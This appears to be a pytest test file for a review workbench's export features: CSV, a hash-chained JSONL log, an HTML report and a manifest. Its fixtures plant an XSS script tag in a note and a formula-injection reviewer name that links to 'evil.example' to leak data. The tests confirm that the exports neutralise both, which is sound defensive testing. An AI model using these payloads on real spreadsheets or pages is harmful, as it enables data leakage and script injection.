"""Exports: the CSV opens in a spreadsheet, the JSONL log re-verifies alone, the report is
safe HTML, the manifest marks document breaks."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from workbench import export, review
from workbench.errors import UsageError
from workbench.store import Case

CHROMIUM = Path("/usr/bin/chromium")
SCRIPT_NOTE = 'Signature differs <script>alert("x")</script> امضا متفاوت است'
HOSTILE_REVIEWER = '=HYPERLINK("http://evil.example/?leak","click")'


def _add_document(case: Case, doc_id: str, page_ids: list[str], claimed: int) -> None:
    """Group pages into a document the way the review log records it."""
    with case.transaction() as db:
        db.execute(
            "INSERT INTO documents(id, title, date_iso, date_jalali, date_original,"
            " claimed_pages, created_by, created_at) VALUES (?,?,?,?,?,?,?,?)",
            (
                doc_id,
                "گزارش محرمانه <b>bold</b>",
                "2019-03-21",
                None,
                "۱ فروردین ۱۳۹۸",
                claimed,
                "alice",
                "2024-01-01T00:00:00Z",
            ),
        )
        for page_id in page_ids:
            state = case.review_state(page_id)
            event = review.append_event(
                db,
                kind="document",
                page_id=page_id,
                document_id=doc_id,
                reviewer="alice",
                page_sha256=state["page_sha256"],
            )
            case.apply_review(state["page_row"], event)


@pytest.fixture
def reviewed(tmp_path: Path, ingested_small_trove: tuple[Path, object]) -> Iterator[dict[str, Any]]:
    """A private copy of the ingested trove with a few review decisions and one document."""
    source_dir, _ = ingested_small_trove
    case_dir = tmp_path / "case"
    shutil.copytree(source_dir, case_dir)
    case = Case.open(case_dir)
    rows = list(case.page_rows())
    by_source: dict[int, list[str]] = {}
    for row in rows:
        by_source.setdefault(row["source_id"], []).append(row["page_id"])
    multi = next(ids for ids in by_source.values() if len(ids) >= 3)
    others = [r["page_id"] for r in rows if r["page_id"] not in multi]
    verified, disputed, illegible, noted = others[:2], others[2], others[3], others[4]
    review.mark(case, verified, "verified", "alice", note="checked against the original")
    review.mark(case, [disputed], "disputed", "bob", note=SCRIPT_NOTE)
    review.mark(case, [illegible], "illegible", "مریم", note="تصویر ناخوانا")
    review.add_note(case, noted, "see also the cover letter", "alice")
    review.mark(case, [others[5]], "verified", HOSTILE_REVIEWER)
    _add_document(case, "DOC-1", multi[:2], claimed=3)
    try:
        yield {
            "case": case,
            "rows": rows,
            "multi": multi,
            "verified": verified + [others[5]],
            "disputed": disputed,
            "illegible": illegible,
            "noted": noted,
            "tmp": tmp_path,
        }
    finally:
        case.close()


# ----- csv ----------------------------------------------------------------------------


def test_csv_reads_back_in_a_spreadsheet_parser(reviewed: dict[str, Any]) -> None:
    out = reviewed["tmp"] / "pages.csv"
    count = export.export_csv(reviewed["case"], out)
    assert count == len(reviewed["rows"])
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in raw
    with open(out, encoding="utf-8-sig", newline="") as handle:
        reader = csv.DictReader(handle)
        assert tuple(reader.fieldnames or ()) == export.CSV_COLUMNS
        table = list(reader)
    assert len(table) == count
    assert [r["page_id"] for r in table] == [r["page_id"] for r in reviewed["rows"]]
    by_id = {r["page_id"]: r for r in table}
    for page_id in reviewed["verified"]:
        assert by_id[page_id]["status"] == "verified"
    assert by_id[reviewed["disputed"]]["status"] == "disputed"
    assert SCRIPT_NOTE in by_id[reviewed["disputed"]]["notes"]
    assert by_id[reviewed["illegible"]]["reviewer"] == "مریم"
    assert "تصویر ناخوانا" in by_id[reviewed["illegible"]]["notes"]
    assert "see also the cover letter" in by_id[reviewed["noted"]]["notes"]
    assert by_id[reviewed["noted"]]["status"] == "unreviewed"
    for page_id in reviewed["multi"][:2]:
        assert by_id[page_id]["document_id"] == "DOC-1"
    # Persian dates as written in the documents survive the round trip.
    persian = (
        reviewed["case"]
        .db.execute(
            "SELECT p.page_id, d.original FROM page_dates d JOIN pages p ON p.id = d.page_row"
            " WHERE d.original GLOB '*[۰-۹]*'"
        )
        .fetchall()
    )
    assert persian, "the fixture trove has dates written in Persian digits"
    for page_id, original in persian:
        assert " ".join(original.split()) in by_id[page_id]["dates_original"].split("; ")
    # A reviewer name that a spreadsheet would run as a formula is neutralised.
    hostile = by_id[reviewed["verified"][-1]]
    assert hostile["reviewer"] == "'" + HOSTILE_REVIEWER
    for record in table:
        for value in record.values():
            assert not value.startswith(("=", "+", "-", "@")), value


def test_csv_dates_and_markers_are_filled(reviewed: dict[str, Any]) -> None:
    out = reviewed["tmp"] / "pages.csv"
    export.export_csv(reviewed["case"], out)
    with open(out, encoding="utf-8-sig", newline="") as handle:
        table = list(csv.DictReader(handle))
    dated = [r for r in table if r["dates"]]
    assert dated, "the fixture trove has dated pages"
    for record in dated:
        for iso in record["dates"].split("; "):
            assert re.match(r"^\d{4}-\d{2}-\d{2}", iso), iso
        assert record["dates_original"]
    for record in table:
        assert record["marker"] == "" or re.match(r"^\d+/(\d+|\?)$", record["marker"])


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_cells_get_a_leading_quote(value: str) -> None:
    assert export._cell(value) == "'" + value
    assert export._cell("plain") == "plain"
    assert export._cell(None) == ""
    assert export._cell(3) == "3"


# ----- jsonl --------------------------------------------------------------------------


def _export_log(reviewed: dict[str, Any]) -> tuple[Path, list[str]]:
    out = reviewed["tmp"] / "log.jsonl"
    count = export.export_jsonl(reviewed["case"], out)
    # the event lines; the records after them (pages, findings) are tested on their own
    lines = [
        line
        for line in out.read_text(encoding="utf-8").splitlines()
        if '"record":' not in line[:12]
    ]
    assert count == len(lines) > 5
    return out, lines


def test_jsonl_has_every_field_and_verifies_alone(reviewed: dict[str, Any]) -> None:
    out, lines = _export_log(reviewed)
    events = [json.loads(line) for line in lines]
    assert [e["seq"] for e in events] == list(range(1, len(events) + 1))
    for event in events:
        assert set(event) == set(review.EVENT_FIELDS) | {"prev_hash", "hash"}
        assert isinstance(event["payload"], dict)
    assert review.verify_chain(events).ok
    report = export.verify_jsonl(out)
    assert report.ok, report.problems
    assert report.events == len(events)
    assert report.head == events[-1]["hash"]
    assert "مریم" in out.read_text(encoding="utf-8")  # readable, not \u escapes
    assert export.verify_jsonl(out, expect_head=report.head).ok


def _rewrite(path: Path, lines: list[str]) -> None:
    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8")


def test_jsonl_one_byte_edit_in_a_value_fails(reviewed: dict[str, Any]) -> None:
    out, lines = _export_log(reviewed)
    index = next(i for i, line in enumerate(lines) if '"reviewer":"bob"' in line)
    edits = [
        lines[index].replace('"reviewer":"bob"', '"reviewer":"bop"'),
        lines[index].replace('"new_status":"disputed"', '"new_status":"disputes"'),
        lines[index].replace('"seq":', '"seq":1', 1) if index else lines[index],
        lines[index].replace("Signature", "signature"),
    ]
    for edited in edits:
        assert edited != lines[index]
        _rewrite(out, lines[:index] + [edited] + lines[index + 1 :])
        report = export.verify_jsonl(out)
        assert not report.ok, edited
    # Every single byte of a value (here: each character of the hash) matters.
    event = json.loads(lines[0])
    for position in range(0, 64, 7):
        flipped = dict(event)
        digit = event["hash"][position]
        flipped["hash"] = (
            event["hash"][:position]
            + ("1" if digit == "0" else "0")
            + event["hash"][position + 1 :]
        )
        _rewrite(out, [json.dumps(flipped, ensure_ascii=False)] + lines[1:])
        assert not export.verify_jsonl(out).ok


def test_jsonl_deleted_or_swapped_lines_fail(reviewed: dict[str, Any]) -> None:
    out, lines = _export_log(reviewed)
    _rewrite(out, lines[:2] + lines[3:])
    assert "missing or out of order" in export.verify_jsonl(out).problems[0]
    _rewrite(out, lines[1:])
    assert not export.verify_jsonl(out).ok
    _rewrite(out, lines[:1] + [lines[2], lines[1]] + lines[3:])
    assert not export.verify_jsonl(out).ok
    # Dropping the tail leaves a valid shorter chain: only the published head catches it.
    head = export.verify_jsonl(reviewed["tmp"] / "missing.jsonl")
    assert not head.ok and "cannot be read" in head.problems[0]
    full = json.loads(lines[-1])["hash"]
    _rewrite(out, lines[:-1])
    assert export.verify_jsonl(out).ok
    truncated = export.verify_jsonl(out, expect_head=full)
    assert not truncated.ok and "expected head" in truncated.problems[0]


def test_jsonl_bad_lines_are_problems_not_exceptions(reviewed: dict[str, Any]) -> None:
    out, lines = _export_log(reviewed)
    _rewrite(out, lines[:3] + [lines[3][:-1]] + lines[4:])
    report = export.verify_jsonl(out)
    assert not report.ok and "line 4" in report.problems[0]
    _rewrite(out, lines[:1] + ["[1, 2]"] + lines[2:])
    assert "line 2" in export.verify_jsonl(out).problems[0]
    renamed = lines[1].replace('"note":', '"nota":', 1)
    _rewrite(out, lines[:1] + [renamed] + lines[2:])
    assert "line 2" in export.verify_jsonl(out).problems[0]
    duplicated = lines[1][:-1] + ',"hash":"' + "0" * 64 + '"}'
    _rewrite(out, lines[:1] + [duplicated] + lines[2:])
    assert "line 2" in export.verify_jsonl(out).problems[0]
    raw = bytearray("".join(line + "\n" for line in lines).encode("utf-8"))
    persian = raw.index("مریم".encode())
    raw[persian] = 0xFF  # one byte edit inside a multi-byte character
    out.write_bytes(bytes(raw))
    report = export.verify_jsonl(out)
    assert not report.ok and "UTF-8" in report.problems[0]


def test_empty_log_exports_and_verifies(tmp_path: Path) -> None:
    with Case.open(tmp_path / "case", create=True) as case:
        out = tmp_path / "log.jsonl"
        assert export.export_jsonl(case, out) == 0
        report = export.verify_jsonl(out)
        assert report.ok and report.events == 0 and report.head == review.GENESIS_HASH
        export.export_report(case, tmp_path / "r.html")
        assert review.GENESIS_HASH in (tmp_path / "r.html").read_text(encoding="utf-8")
        assert export.export_csv(case, tmp_path / "p.csv") == 0
        assert export.export_manifest(case, tmp_path / "m.csv") == 0


# ----- report -------------------------------------------------------------------------


def _report(reviewed: dict[str, Any]) -> tuple[Path, str]:
    out = reviewed["tmp"] / "report.html"
    export.export_report(reviewed["case"], out)
    return out, out.read_text(encoding="utf-8")


def test_report_shows_counts_notes_documents_and_head(reviewed: dict[str, Any]) -> None:
    _, page = _report(reviewed)
    total = len(reviewed["rows"])
    assert page.startswith("<!DOCTYPE html>")
    assert '<html lang="en" dir="ltr">' in page and '<meta charset="utf-8">' in page
    assert reviewed["case"].root.name in page
    assert re.search(r"Generated \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ \(UTC\)", page)
    done = len(reviewed["verified"]) + 2
    assert f"{100 * done / total:.1f}% reviewed" in page
    assert f"({done} of {total} pages)" in page
    for status, n in (("verified", 3), ("disputed", 1), ("illegible", 1)):
        assert re.search(rf"{status}</td><td class=\"num\">{n}</td>", page), status
    assert re.search(rf"unreviewed</td><td class=\"num\">{total - done}</td>", page)
    # the disputed page's note, escaped; the planted script is inert
    assert reviewed["disputed"] in page
    assert "Signature differs &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in page
    assert "<script" not in page.lower()
    assert "تصویر ناخوانا" in page
    # documents: claimed 3, actual 2, flagged; date in both calendars; title escaped
    assert "DOC-1" in page and "mismatch</span>" in page and "class=mismatch" in page
    assert "2019-03-21" in page and "1398-01-01" in page
    assert "&lt;b&gt;bold&lt;/b&gt;" in page and "<b>" not in page
    # reviewers with their event counts
    events = list(review.iter_events(reviewed["case"]))
    bob = sum(1 for e in events if e["reviewer"] == "bob")
    assert re.search(rf"<bdi>bob</bdi></td><td class=num>{bob}</td>", page)
    assert "<bdi>مریم</bdi>" in page
    # the chain head and the number of events
    assert events[-1]["hash"] in page
    assert f"{len(events)} events in the hash-chained review log" in page


def test_report_is_self_contained(reviewed: dict[str, Any]) -> None:
    _, page = _report(reviewed)
    lowered = page.lower()
    for needle in ("<script", "<link", "src=", "@import", "url(", "http://", "https://"):
        if needle == "http://":
            # only the hostile reviewer's (escaped) text may contain a URL
            assert lowered.count(needle) == lowered.count("http://evil.example")
            continue
        assert needle not in lowered, needle


def test_report_with_no_reviews_shows_genesis(tmp_path: Path, ingested_small_trove) -> None:
    case_dir = tmp_path / "case"
    shutil.copytree(ingested_small_trove[0], case_dir)
    with Case.open(case_dir) as case:
        export.export_report(case, tmp_path / "r.html")
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert review.GENESIS_HASH in page and "0 events" in page and "0.0% reviewed" in page


@pytest.mark.skipif(not CHROMIUM.exists(), reason="chromium is not installed")
def test_report_renders_in_headless_chromium(reviewed: dict[str, Any]) -> None:
    out, _ = _report(reviewed)
    png = reviewed["tmp"] / "report.png"
    profile = reviewed["tmp"] / "chromium-profile"
    command = [
        str(CHROMIUM),
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--no-first-run",
        f"--user-data-dir={profile}",
        f"--screenshot={png}",
        "--window-size=1200,1600",
        out.resolve().as_uri(),
    ]
    try:
        subprocess.run(command, capture_output=True, timeout=120, check=False)
    except subprocess.TimeoutExpired:
        pytest.skip("chromium did not finish within 120 s")
    assert png.exists(), "chromium wrote no screenshot"
    data = png.read_bytes()
    assert data.startswith(b"\x89PNG\r\n\x1a\n") and len(data) > 10_000


# ----- manifest -----------------------------------------------------------------------


def test_manifest_has_one_row_per_page_and_document_breaks(reviewed: dict[str, Any]) -> None:
    out = reviewed["tmp"] / "manifest.csv"
    count = export.export_manifest(reviewed["case"], out)
    rows = reviewed["rows"]
    assert count == len(rows)
    assert not out.read_bytes().startswith(b"\xef\xbb\xbf")
    with open(out, encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    assert tuple(table[0]) == export.MANIFEST_COLUMNS
    assert [r["page_id"] for r in table] == [r["page_id"] for r in rows]
    by_id = {r["page_id"]: r for r in table}
    multi = reviewed["multi"]
    # the document: breaks on its first page with its page count
    assert by_id[multi[0]]["document_break"] == "Y" and by_id[multi[0]]["page_count"] == "2"
    assert by_id[multi[1]]["document_break"] == "" and by_id[multi[1]]["page_count"] == ""
    # the rest of that file, not in the document, starts a new unit
    rest = len(multi) - 2
    assert by_id[multi[2]]["document_break"] == "Y"
    assert by_id[multi[2]]["page_count"] == str(rest)
    # every other file breaks on its first page, with its page count
    for source_id in {r["source_id"] for r in rows}:
        ids = [r["page_id"] for r in rows if r["source_id"] == source_id]
        if ids == multi:
            continue
        assert by_id[ids[0]]["document_break"] == "Y"
        assert by_id[ids[0]]["page_count"] == str(len(ids))
        assert all(by_id[i]["document_break"] == "" for i in ids[1:])
    assert sum(int(r["page_count"] or 0) for r in table) == len(rows)
    for record, row in zip(table, rows, strict=True):
        assert record["file_path"] == row["source_path"]
        assert record["page_number"] == str(row["page_number"])


# ----- dispatch and atomic writes -----------------------------------------------------


def test_export_dispatches_and_rejects_unknown_formats(reviewed: dict[str, Any]) -> None:
    case, tmp = reviewed["case"], reviewed["tmp"]
    for fmt in export.FORMATS:
        summary = export.export(case, fmt, tmp / f"out.{fmt}")
        assert "\n" not in summary and str(tmp / f"out.{fmt}") in summary
        assert (tmp / f"out.{fmt}").stat().st_size > 0
    with pytest.raises(UsageError, match="unknown export format"):
        export.export(case, "xlsx", tmp / "out.xlsx")
    with pytest.raises(UsageError, match="does not exist"):
        export.export(case, "csv", tmp / "no-such-folder" / "out.csv")


def test_failed_export_leaves_the_old_file_and_no_temp(
    reviewed: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    case, tmp = reviewed["case"], reviewed["tmp"]
    out = tmp / "exports" / "pages.csv"
    out.parent.mkdir()
    out.write_text("previous export\n", encoding="utf-8")
    real_rows = case.page_rows

    def failing_rows():
        for number, row in enumerate(real_rows()):
            if number == 3:
                raise RuntimeError("disk pulled out")
            yield row

    monkeypatch.setattr(case, "page_rows", failing_rows)
    with pytest.raises(RuntimeError):
        export.export_csv(case, out)
    assert out.read_text(encoding="utf-8") == "previous export\n"
    assert [p.name for p in out.parent.iterdir()] == ["pages.csv"]
